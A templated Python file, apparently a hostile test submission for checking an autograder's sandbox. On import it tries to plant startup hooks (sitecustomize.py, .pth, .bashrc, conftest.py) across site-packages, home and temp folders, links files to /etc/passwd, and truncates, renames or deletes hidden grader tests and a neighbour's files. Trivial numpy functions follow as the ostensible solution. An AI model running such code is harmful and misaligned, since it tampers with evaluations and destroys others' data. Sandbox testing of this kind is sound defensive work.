import os
import site

import numpy as np

PLACES = [
    "@HOST_FOLDER@",
    "@COURSE@/solutions/vault",
    "@NEIGHBOUR@",
    "/tmp",
    "/dev/shm",
    "/var/tmp",
]
PLACES += [*site.getsitepackages(), os.path.dirname(np.__file__), os.path.expanduser("~"), ".."]
FILES = ["@HOST_FILE@", "@COURSE@/solutions/vault/test_hidden.py", "@NEIGHBOUR@/vault.py"]
for folder in PLACES:
    for name in ("sitecustomize.py", "mallory.pth", ".bashrc", "conftest.py"):
        path = f"{folder}/mallory-{name}"
        for make in (
            lambda: open(path, "w").write("import os"),
            lambda: os.mkdir(path),
            lambda: os.mkfifo(path),
            lambda: os.symlink("/etc/passwd", path),
            lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR),
        ):
            try:
                make()
            except OSError:
                pass
for path in FILES:
    for spoil in (
        lambda: open(path, "a").write("#"),
        lambda: open(path, "r+"),
        lambda: os.truncate(path, 0),
        lambda: os.rename(path, path + "~"),
        lambda: os.remove(path),
        lambda: os.link(path, "mine"),
    ):
        try:
            spoil()
        except OSError:
            pass


def double(x):
    return 2 * np.asarray(x)


def total(values):
    return float(np.sum(values))


def classify(X):
    return (np.asarray(X).sum(axis=1) > 0).astype(float)


def step(w, g):
    return w - 0.1 * g


def halve(t):
    return t / 2
